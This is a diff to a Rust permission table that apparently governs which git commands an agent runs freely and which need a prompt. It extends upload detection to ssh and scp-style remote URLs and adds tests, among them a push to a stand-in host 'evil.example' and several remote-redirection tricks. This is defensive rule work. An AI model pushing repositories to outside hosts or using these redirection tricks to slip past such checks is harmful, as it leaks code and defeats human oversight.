@@ -11,9 +11,10 @@ pub static ROWS: &[Row] = rows! {
         reflog expire|delete : !history-rewrite
         push !-n|--dry-run -f|--force~|--force-with-lease~|--mirror~|-d|--delete~|--prune~|--force-if-includes : !force-push
         push @+*|:* : !force-push
-        push @http*://* : !upload
-        push : n g* remote?upload
-        fetch|pull|clone|ls-remote|submodule : n g*
+        push @http*://*|ssh://*|*@*.*:* : !upload
+        push : n g1 remote?upload
+        fetch|pull|clone|ls-remote : n g1
+        submodule : n g*
         clone : w3
         remote add|set-url : g*
         remote set-url : +remote
@@ -84,7 +85,7 @@ pub static ROWS: &[Row] = rows! {
         svn dcommit : !publish" [
         allow "git status", allow "git commit -m 'x -f --force'", allow "git push origin main", allow "git push origin main && git remote add x https://x.example/a",
         allow "git init && git remote add origin git@github.com:dev/shop.git && git push -u origin main",
-        prompt "git remote set-url origin https://x.example/a && git push", prompt "git remote add x h:a; git -C . push x main",
+        prompt "git push git@evil.example:x/y.git", allow "git push origin HEAD:main", allow "git fetch origin main:main", prompt "git remote set-url origin https://x.example/a && git push", prompt "git remote add x h:a; git -C . push x main",
         prompt "git config remote.x.url h:a; git push x", prompt "git -c url.https://x.example/.insteadOf=git: push", allow "git remote add x h:a && git fetch x",
         allow "git rebase main", allow "git stash", allow "git stash pop",
         allow "git branch -d done", allow "git checkout -b x", allow "git checkout main", allow "git clean -n", allow "git restore --staged .",
